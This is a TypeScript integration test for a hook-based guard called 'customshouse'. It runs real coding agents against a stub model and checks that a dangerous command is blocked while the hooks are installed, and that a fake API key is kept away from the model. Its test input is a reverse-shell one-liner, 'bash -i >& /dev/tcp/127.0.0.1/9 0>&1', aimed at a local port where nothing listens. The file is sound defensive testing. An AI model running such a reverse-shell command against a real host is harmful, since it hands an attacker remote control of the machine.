/**
 * The coding agents themselves, from npm, with the hooks that `customshouse setup` installs, in front of a model that wants
 * to run a command. They are not part of CI because they take 1.1 GB: `npm run test:hosts` installs and runs them.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, type TestContext, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { findNpmProgram, installFromNpm } from '../../scripts/components/npm.ts';
import { type Agent, agents, type Stage } from './agents.ts';
import { type Model, startModel } from './model.ts';

const FOLDER = 'tests/hosts';
const modules = join(import.meta.dirname, 'node_modules');
const service = resolve(import.meta.dirname, '..', '..', 'service');
const AGENT_MS_MAX = 120_000;
/**
 * Time in milliseconds after which the doctor compares a call with the audit log. The event of a newer call may still
 * be on the way.
 */
const COMPARED_AFTER_MS = 62_000;
/** Concatenated, so that code hosts accept the push. */
const SK_KEY = `sk-${'ABCDEF1234567890'}`;

if (findNpmProgram(FOLDER, 'codex') === null) {
  console.log(`installing the packages of ${FOLDER} (1.1 GB) ...`);
  assert.ok(installFromNpm(FOLDER), `npm could not install the packages of ${FOLDER}`);
}

let ran = 0;
describe('coding agents', { concurrency: 2 }, () => {
  for (const agent of agents) test(`${agent.name} does what its hooks say`, (t) => checkAgent(t, agent));
});
test('all agents were run', () => assert.equal(ran, 4));

async function checkAgent(t: TestContext, agent: Agent): Promise<void> {
  const { stage, model, config } = await staged(t, agent);
  const file = (name: string) => join(stage.project, name);
  // No process listens there, so that no data is lost if the command does run.
  const bad = (name: string) => `bash -i >& /dev/tcp/127.0.0.1/9 0>&1; touch ${file(name)}`;

  model.want(bad('before'));
  const alone = await run(agent, stage, 'please do it');
  assert.ok(existsSync(file('before')), `without hooks the command runs: ${alone}`);

  setUp(agent, stage, ['--config', config, '--yes']);
  model.want(bad('blocked'));
  const told = await run(agent, stage, 'please do it');
  assert.ok(!existsSync(file('blocked')), told);
  assert.match(model.results.at(-1) ?? '', /A dangerous command was found/, told);
  assert.ok(
    getEvents(stage, config).some(({ decision, tool_name }) => decision === 'block' && tool_name !== null),
  );

  model.want(`touch ${file('harmless')}`);
  const ordinary = await run(agent, stage, 'please do it');
  assert.ok(existsSync(file('harmless')), `a harmless command runs: ${ordinary}`);

  const asked = model.requests.length;
  await run(agent, stage, `remember ${SK_KEY} for me`);
  const seen = model.requests.slice(asked).some((request) => request.includes(SK_KEY));
  assert.equal(seen, !agent.holds_prompts, 'whether the model saw the prompt');

  const looked = doctor(agent, stage, config);
  assert.deepEqual(getStates(looked, 'hook.blocks'), agent.doctor_says, JSON.stringify(looked.checks));

  setUp(agent, stage, ['--uninstall', '--yes']);
  model.want(bad('after'));
  await run(agent, stage, 'please do it');
  assert.ok(existsSync(file('after')), 'without its hooks the command runs again');
  assert.deepEqual(getStates(doctor(agent, stage, config), 'coding_agent.installed'), ['fail']);

  setUp(agent, stage, ['--config', config, '--yes']);
  await sleep(COMPARED_AFTER_MS);
  const { sessions } = doctor(agent, stage, config);
  const kinds = sessions.map(({ kind }) => kind).sort();
  assert.deepEqual(kinds, ['before_setup', 'unseen'], JSON.stringify(sessions));
  ran += 1;
}

async function staged(t: TestContext, agent: Agent): Promise<{ stage: Stage; model: Model; config: string }> {
  const dir = mkdtempSync(join(tmpdir(), 'agents-'));
  const model = await startModel();
  const stage = { home: join(dir, 'home'), project: join(dir, 'project'), model_url: model.url };
  for (const folder of [stage.home, stage.project]) mkdirSync(folder);
  const config = join(dir, 'service.yaml');
  writeFileSync(config, `state_dir: ${join(dir, 'state')}\n`);
  t.after(() => {
    model.close();
    stopResident(join(dir, 'state'));
    rmSync(dir, { recursive: true, force: true, maxRetries: 5 });
  });
  agent.prepare?.(stage);
  return { stage, model, config };
}

function stopResident(stateDir: string): void {
  const owner = join(stateDir, 'owner.json');
  if (existsSync(owner)) process.kill((JSON.parse(readFileSync(owner, 'utf8')) as { pid: number }).pid);
}

function environment({ home }: Stage): NodeJS.ProcessEnv {
  return { PATH: process.env.PATH, HOME: home, TMPDIR: tmpdir(), TERM: 'dumb', NO_COLOR: '1' };
}

/** Runs the agent once to its end, and returns its output. */
async function run(agent: Agent, stage: Stage, prompt: string): Promise<string> {
  const child = spawn(process.execPath, [join(modules, agent.main), ...agent.args(prompt)], {
    cwd: stage.project,
    env: { ...environment(stage), ...agent.env(stage) },
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: AGENT_MS_MAX,
  });
  let written = '';
  for (const stream of [child.stdout, child.stderr])
    stream.setEncoding('utf8').on('data', (piece: string) => {
      written += piece;
    });
  const [, signal] = await once(child, 'close');
  assert.equal(signal, null, `${agent.name} did not end:\n${written}`);
  return written;
}

function setUp({ name }: Agent, stage: Stage, more: readonly string[]): void {
  const words = ['setup', name, '--scope', 'user', '--path', stage.project, ...more];
  const { status, stdout, stderr } = spawnSync(service, words, { env: environment(stage), encoding: 'utf8' });
  assert.equal(status, 0, `${stdout}${stderr}`);
}

interface HostCheck {
  readonly checks: readonly { readonly name: string; readonly status: string }[];
  readonly sessions: readonly { readonly kind: string }[];
}

function doctor({ name }: Agent, stage: Stage, config: string): HostCheck {
  const words = ['doctor', '--coding-agent', name, '--config', config, '--json'];
  const options = { cwd: stage.project, env: environment(stage), encoding: 'utf8' } as const;
  const { stdout, stderr } = spawnSync(service, words, options);
  assert.notEqual(stdout, '', stderr);
  return JSON.parse(stdout) as HostCheck;
}

/** Returns the distinct states of all checks with a name. */
function getStates({ checks }: HostCheck, name: string): readonly string[] {
  const states = checks.filter((each) => each.name === name).map(({ status }) => status);
  return [...new Set(states)].sort();
}

function getEvents(stage: Stage, config: string): { decision: string; tool_name: string | null }[] {
  const words = ['logs', '--config', config, '--tail', '20', '--json'];
  const { stdout, stderr } = spawnSync(service, words, { env: environment(stage), encoding: 'utf8' });
  assert.notEqual(stdout, '', stderr);
  return stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
}
